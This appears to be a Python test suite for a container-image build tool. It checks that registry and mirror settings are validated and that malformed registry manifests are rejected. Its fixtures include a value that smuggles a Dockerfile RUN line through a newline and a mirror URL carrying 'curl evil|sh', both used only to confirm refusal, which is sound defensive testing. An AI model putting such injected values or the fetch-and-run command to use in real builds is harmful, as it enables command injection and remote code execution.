"""Values that become part of a Dockerfile or a reference, and registry documents of the wrong
kind or shape: each refused where it is read, with a message naming it (pure: no registry).

The same cases against a real registry behind a lying proxy are in
tests/integration/test_registry_faults.py.
"""
from __future__ import annotations

import json

import pytest

from builder.model import builders
from builder.model.builders import base_mirror_from
from builder.model.errors import InputError
from builder.model.naming import check_registry
from builder.model.reference import (DOCKER_LIST, DOCKER_MANIFEST, config_problem, manifest_kind,
                                     registry_problem)
from builder.model.report import Status
from builder.publish.lists import TagResult

INJECTED = "127.0.0.1:5000#\nRUN touch /tmp/injected"
DIGEST = "sha256:" + "a" * 64


@pytest.mark.parametrize("value", [INJECTED, "127.0.0.1:5000 ", "https://r.example.com",
                                   "r.example.com/Team", "r.example.com//x", "", "r_x.com",
                                   "r.example.com:5000:1", "régistry.example.com"])
def test_a_registry_value_that_is_not_host_port_path_is_refused(value):
    assert registry_problem(value, path=True) is not None
    with pytest.raises(InputError) as raised:
        check_registry(value)
    assert raised.value.exit_code == 2 and str(raised.value).startswith("--registry: ")


@pytest.mark.parametrize("value", ["127.0.0.1:5000", "registry.example.com/team/sub", "localhost",
                                   "[::1]:5000"])
def test_a_registry_host_with_a_path_is_taken(value):
    assert check_registry(value) == value


def test_the_base_mirror_variable_is_checked_as_a_host_without_a_path():
    assert base_mirror_from({"BUILDER_BASE_MIRROR": "127.0.0.1:5000"}) == "127.0.0.1:5000"
    assert base_mirror_from({}) is None
    for value in (INJECTED, "127.0.0.1:5000/library"):
        with pytest.raises(InputError) as raised:
            base_mirror_from({"BUILDER_BASE_MIRROR": value})
        assert str(raised.value).startswith("BUILDER_BASE_MIRROR: ")


def test_the_base_mirror_of_a_builders_file_is_refused_with_its_line(tmp_path):
    path = tmp_path / "builders.yaml"
    path.write_text('engines:\n  - {name: a, url: "unix:///x", platforms: [amd64]}\n'
                    'base-mirror: "127.0.0.1:5000#\\nRUN touch /tmp/injected"\n')
    with pytest.raises(InputError) as raised:
        builders.parse(path)
    assert str(raised.value).startswith(f"{path}:3: base-mirror: ")


def test_a_mirror_url_variable_is_refused_naming_the_variable(tmp_path):
    path = tmp_path / "builders.yaml"
    path.write_text('engines:\n  - {name: a, url: "unix:///x", platforms: [amd64]}\n'
                    "mirrors:\n  - {name: python-org, upstream: 'https://www.python.org/ftp/',"
                    " url: 'http://127.0.0.1:8600/'}\n")
    with pytest.raises(InputError) as raised:
        builders.parse(path, env={"BUILDER_MIRROR_PYTHON_ORG_URL": "http://x/ && curl evil|sh/"})
    assert str(raised.value).startswith("BUILDER_MIRROR_PYTHON_ORG_URL: ")


def _list(**extra) -> bytes:
    return json.dumps({"schemaVersion": 2, "mediaType": DOCKER_LIST, "manifests": [
        {"mediaType": DOCKER_MANIFEST, "digest": DIGEST, "size": 1,
         "platform": {"os": "linux", "architecture": "amd64"}}], **extra}).encode()


def test_a_manifest_is_known_by_its_body_and_must_agree_with_its_content_type():
    assert manifest_kind(DOCKER_LIST, _list()) == (DOCKER_LIST, None)
    assert manifest_kind("application/json", _list()) == (DOCKER_LIST, None)
    media_type, problem = manifest_kind(DOCKER_MANIFEST, _list())
    assert f"served as {DOCKER_MANIFEST} but its body says {DOCKER_LIST}" in problem


@pytest.mark.parametrize("body, words", [
    (b"<!DOCTYPE html>\n<html>sign in</html>", "answered HTML where a manifest was expected "
                                               "(first line: <!DOCTYPE html>)"),
    (b"upstream timed out", "something that is not JSON"),
    (b"[1, 2]", "a JSON list, not an object"),
    (_list(manifests={"x": 1}), "manifests are not a list of descriptors"),
    (json.dumps({"mediaType": DOCKER_MANIFEST, "config": [], "layers": []}).encode(),
     "without a config descriptor"),
    (json.dumps({"mediaType": DOCKER_MANIFEST, "config": {"digest": DIGEST},
                 "layers": [1]}).encode(), "layers are not a list of descriptors"),
])
def test_a_manifest_of_the_wrong_shape_is_named_not_used(body, words):
    assert words in manifest_kind("application/json", body)[1]


@pytest.mark.parametrize("body, words", [
    (b"[]", "a JSON list, not an object"), (b'{"config": []}', "config is a JSON list"),
    (b'{"config": {"Labels": "x"}}', "Labels are not an object"),
    (b'{"history": {}}', "history is a JSON dict"), (b'{"os": 1}', "os is not a string"),
    (b"<html>", "HTML where an image config was expected"),
])
def test_a_config_that_is_not_an_object_of_the_right_kinds_is_named(body, words):
    config, problem = config_problem(body)
    assert config == {} and words in problem
    assert config_problem(b'{"os": "linux", "config": {"Labels": {}}}')[1] is None


def test_a_kept_tag_says_why_and_a_tag_moved_alone_names_the_tags_it_is_apart_from():
    kept = TagResult("2", "r/p:2", Status.KEPT, DIGEST, DOCKER_LIST, ("linux/amd64",),
                     reason="not written: latest failed")
    assert kept.line() == "r/p:2: kept: not written: latest failed"
    alone = TagResult("2", "r/p:2", Status.WRITTEN, DIGEST, DOCKER_LIST, ("linux/amd64",),
                      split_from=("latest",), reason="MOVED ALONE: …")
    assert alone.line().endswith("; MOVED ALONE: …")
    assert alone.as_dict()["split_from"] == ("latest",)


def test_the_first_write_into_a_directory_removes_the_temporary_files_of_dead_writers(tmp_path):
    import os
    import subprocess
    from builder.model.files import write_atomic
    gone = subprocess.Popen(["true"])
    gone.wait()  # a pid no process has now
    dead = tmp_path / f".page.md.{gone.pid}.x1y2.tmp"
    live = tmp_path / f".page.md.{os.getpid()}.z3w4.tmp"
    other = tmp_path / ".partial.tmp"  # not one of ours: left alone
    for path in (dead, live, other):
        path.write_text("half a page")
    write_atomic(tmp_path / "page.md", "a page")
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [live.name, other.name, "page.md"])


def test_a_report_written_at_the_start_says_running():
    from builder.model.report import Report
    document = Report("release", "1.0.0").document(None)
    assert document["result"] == "running" and document["exit_code"] is None
    assert document["finished"] is None


@pytest.mark.parametrize("env, flag, words", [
    ({"BUILDER_BASE_MIRROR": INJECTED}, "127.0.0.1:5000", "error: BUILDER_BASE_MIRROR: "),
    ({}, "127.0.0.1:5000#", "error: --registry: '127.0.0.1:5000#' is not a registry host"),
])
def test_the_command_refuses_a_hostile_value_with_exit_2_before_anything_runs(env, flag, words):
    import os
    import subprocess
    from tests.helpers.paths import INVOKE, ROOT
    done = subprocess.run([str(INVOKE), "build", "--versions", "examples/hello/versions.yaml",
                           "--version", "1.0.0", "--registry", flag, "--dry-run"],
                          cwd=ROOT, capture_output=True, text=True, env={**os.environ, **env})
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stderr.startswith(words) and "Traceback" not in done.stderr
    assert "RUN touch" not in done.stdout
